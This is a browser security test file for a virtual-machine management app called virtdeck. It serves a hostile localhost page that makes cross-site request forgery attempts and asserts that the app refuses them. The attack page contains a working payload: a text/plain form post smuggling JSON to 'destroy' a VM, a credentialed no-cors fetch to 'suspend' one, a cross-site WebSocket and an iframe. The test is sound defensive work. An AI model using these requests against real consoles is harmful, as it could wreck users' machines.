// Another site's page, open in the same browser as a logged-in virtdeck tab,
// tries to act with the user's cookie: a text/plain form post, a fetch, and
// a WebSocket. "Another site" is another port of 127.0.0.1 — the cookie is
// sent (same site), so only virtdeck's own checks stand in the way.
// Also: virtdeck's pages cannot be framed.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, describe } from 'node:test';

import { freePort, launch, login, scenarios, startServer, waitFor } from './support.mjs';

let server;
let browser;
let evil;
let evilUrl;
let starting;
const reports = [];

/** The other site: serves one attacking page and collects what it reports. */
function evilSite(target) {
  return createServer((req, res) => {
    if (req.url.startsWith('/report')) {
      let body = '';
      req.on('data', (c) => (body += c));
      req.on('end', () => {
        reports.push(JSON.parse(body));
        res.end();
      });
      return;
    }
    const { host, uuid } = JSON.parse(decodeURIComponent(req.url.split('?g=')[1] ?? '{}'));
    res.setHeader('content-type', 'text/html');
    res.end(`<!doctype html><title>cat pictures</title>
<iframe name="sink" style="display:none"></iframe>
<iframe id="framed" src="${target}/guests"></iframe>
<form id="f" method="post" action="${target}/api/guests/action" enctype="text/plain" target="sink">
  <input name='{"host":"${host}","uuid":"${uuid}","action":"destroy","x":"' value='"}'>
</form>
<script>
  const report = (what) => fetch('/report', { method: 'POST', body: JSON.stringify(what) });
  document.getElementById('f').submit();
  fetch('${target}/api/guests/action', {
    method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: { 'content-type': 'text/plain' },
    body: JSON.stringify({ host: '${host}', uuid: '${uuid}', action: 'suspend' }),
  }).then(() => report({ fetch: 'sent' }), (e) => report({ fetch: 'error ' + e }));
  const ws = new WebSocket('${target.replace('http', 'ws')}/ws');
  ws.onopen = () => report({ ws: 'open' });
  ws.onmessage = (m) => report({ ws: 'message ' + m.data });
  ws.onerror = () => report({ ws: 'error' });
  ws.onclose = (e) => report({ ws: 'closed ' + e.code });
</script>`);
  });
}

function ready() {
  starting ??= (async () => {
    server = await startServer('security');
    const port = await freePort();
    evil = evilSite(server.url);
    await new Promise((r) => evil.listen(port, '127.0.0.1', r));
    evilUrl = `http://127.0.0.1:${port}`;
    browser = await launch();
    return browser;
  })();
  return starting;
}

describe('virtdeck against other sites (demo fleet)', { concurrency: false }, () => {
  after(async () => {
    await browser?.close();
    evil?.close();
    await server?.stop();
  });
  const scenario = scenarios(ready);

  scenario('a page of another site cannot act with the cookie, open the socket, or frame virtdeck', async (page, context) => {
    await login(page, server.url, server.password);
    const guests = await (await context.request.get(`${server.url}/api/guests`)).json();
    const web = guests.find((g) => g.name === 'web01');
    assert.equal(web.state, 'running');

    const other = await context.newPage();
    const g = encodeURIComponent(JSON.stringify({ host: web.host, uuid: web.uuid }));
    await other.goto(`${evilUrl}/?g=${g}`);
    await waitFor(
      () => reports.some((r) => r.fetch) && reports.some((r) => /^(closed|error)/.test(r.ws ?? '')),
      15_000,
      'the other page to report its fetch and socket',
    );
    assert.ok(!reports.some((r) => r.ws === 'open'), `the socket opened: ${JSON.stringify(reports)}`);
    assert.ok(!reports.some((r) => /^message/.test(r.ws ?? '')), 'no event reached the other page');

    // virtdeck refused both posts: the guest runs on, as the user sees it.
    const after = await (await context.request.get(`${server.url}/api/guests`)).json();
    assert.equal(after.find((x) => x.uuid === web.uuid).state, 'running');
    await page.reload();
    const row = page.locator(`table.guests tbody tr[data-guest="web01"][data-host="${web.host}"]`);
    assert.equal((await row.locator('td.state .badge').textContent()).trim(), 'running');

    // The frame stays empty: virtdeck's pages refuse to be framed.
    const framed = other.frames().find((f) => f.url().startsWith(server.url));
    const content = framed ? await framed.content().catch(() => '') : '';
    assert.ok(!content.includes('web01'), 'virtdeck rendered inside another site');
    await other.close();
  });
});
